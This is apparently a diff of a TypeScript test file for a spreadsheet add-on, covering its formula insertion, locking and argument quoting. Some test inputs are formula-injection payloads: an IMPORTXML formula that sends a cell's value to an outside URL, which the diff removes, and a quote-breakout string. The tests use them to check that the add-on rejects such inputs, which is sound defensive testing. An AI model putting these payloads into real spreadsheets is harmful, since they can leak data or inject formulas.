@@ -31,15 +31,17 @@ describe('a formula', () => {
     expect(insert(addon)).toMatchObject({ ok: true, a1: 'F2' });
   });
 
-  it('costs eight service calls, five without a unit to show', () => {
+  it('costs ten service calls, seven without a unit to show, one more beside other formulas', () => {
     const addon = openVideos();
     insert(addon);
-    const five = ['Sheet.getName', 'Range.getValues', 'Range.getFormulas', 'Range.setFormula', 'SpreadsheetApp.flush'];
+    const read = ['Lock.tryLock', 'Sheet.getName', 'Range.getValues', 'Range.getFormulas'];
+    const write = ['Range.setFormula', 'SpreadsheetApp.flush'];
     const unit = ['Range.getNumberFormats', 'RangeList.setNumberFormat', 'SpreadsheetApp.flush'];
-    expect(addon.calls.names).toEqual([...five, ...unit]);
+    expect(addon.calls.names).toEqual([...read, ...write, ...unit, 'Lock.releaseLock']);
     addon.select('Data', 'H2');
     insert(addon, { name: 'LIVE_ELIGIBLE', args: [reference('B2'), reference('C2')], rows: 1, columns: 1, at: null });
-    expect(addon.calls.names).toEqual(five);
+    // F2 holds a formula now, whose result is looked at afterwards.
+    expect(addon.calls.names).toEqual([...read, ...write, 'Range.getValues', 'Lock.releaseLock']);
   });
 
   it('over an open range fills the column down to the end of the sheet', () => {
@@ -63,8 +65,6 @@ describe('a formula', () => {
 });
 
 describe('its arguments', () => {
-  const text = { kind: 'value', value: '=IMPORTXML("https://example.com/?"&A1;"//a")' } as const;
-
   it.each<[string, string, readonly FormulaArgumentMessage[], string]>([
     ['references keep their $', 'WATCH_SHARE', [reference('$b$2:b4'), reference('c2')], '$B$2:B4;C2'],
     ['open ranges', 'WATCH_SHARE', [reference('B2:B'), reference('C$2:C')], 'B2:B;C$2:C'],
@@ -85,13 +85,6 @@ describe('its arguments', () => {
       'E2;125/1000',
     ],
     ['words', 'QUALIFIED_VIEWS', [reference('E2'), { kind: 'value', value: 'high' }], 'E2;"high"'],
-    [
-      'text that looks like a formula',
-      'QUALIFIED_VIEWS',
-      [reference('E2'), text],
-      `E2;"${text.value.replace(/"/g, '""')}"`,
-    ],
-    ['a quote', 'QUALIFIED_VIEWS', [reference('E2'), { kind: 'value', value: '");B1&("' }], 'E2;""");B1&("""'],
     ['blanks at the end', 'QUALIFIED_VIEWS', [reference('E2'), blank], 'E2'],
     [
       'a blank in the middle',
@@ -103,6 +96,22 @@ describe('its arguments', () => {
     const addon = openVideos('H2');
     expect(insert(addon, { name, args, rows: 1, columns: 1, at: null })).toMatchObject({ ok: true });
     expect(formulaAt(addon, 'Data', 'H2')).toBe(`=${name}(${written})`);
+  });
+
+  it.each<[string, string, readonly FormulaArgumentMessage[]]>([
+    ['a text that is no word', 'QUALIFIED_VIEWS', [reference('E2'), { kind: 'value', value: '=IMPORTXML("x"&A1)' }]],
+    ['a quote', 'QUALIFIED_VIEWS', [reference('E2'), { kind: 'value', value: '");B1&("' }]],
+    ['a share above 1', 'QUALIFIED_VIEWS', [reference('E2'), { kind: 'value', value: 15 }]],
+    ['a truth value for a number', 'QUALIFIED_VIEWS', [{ kind: 'value', value: true }]],
+    ['an unknown rate', 'PAYOUT_RATE', [{ kind: 'value', value: 'cpm' }]],
+    ['a range where a table takes one cell', 'PROGRAM_COMPARISON', [reference('E2:E4')]],
+    ['a range beside a list', 'PAYOUT_SCHEDULE', [reference('E2:E4'), reference('B2:B4')]],
+  ])('that the function refuses are refused here: %s', (_, name, args) => {
+    const addon = openVideos('H2');
+    const before = all(addon);
+    const request = { name, args, rows: 1, columns: 1, at: null };
+    expect(insert(addon, request)).toEqual({ ok: false, problem: 'invalid-request' });
+    expect(all(addon)).toBe(before);
   });
 
   it('may be on another sheet', () => {
@@ -159,7 +168,7 @@ describe('number formats', () => {
     insert(addon);
     addon.setCell('Data', 'F2', '');
     insert(addon);
-    expect(addon.calls.names.at(-1)).toBe('Range.getNumberFormats');
+    expect(addon.calls.names.slice(-2)).toEqual(['Range.getNumberFormats', 'Lock.releaseLock']);
     expect(addon.cell('Data', 'F3').text).toBe('1.00%');
   });
 });
@@ -234,6 +243,11 @@ describe('what stands against a formula', () => {
 
   it('may be that there is no cell', () => {
     const SpreadsheetApp = { getCurrentCell: () => null };
-    expect(loadCode({ SpreadsheetApp }).insertFormula?.(rates)).toMatchObject({ ok: false, problem: 'no-selection' });
+    const lock = { tryLock: () => true, releaseLock: () => undefined };
+    const LockService = { getDocumentLock: () => lock };
+    expect(loadCode({ SpreadsheetApp, LockService }).insertFormula?.(rates)).toMatchObject({
+      ok: false,
+      problem: 'no-selection',
+    });
   });
 });
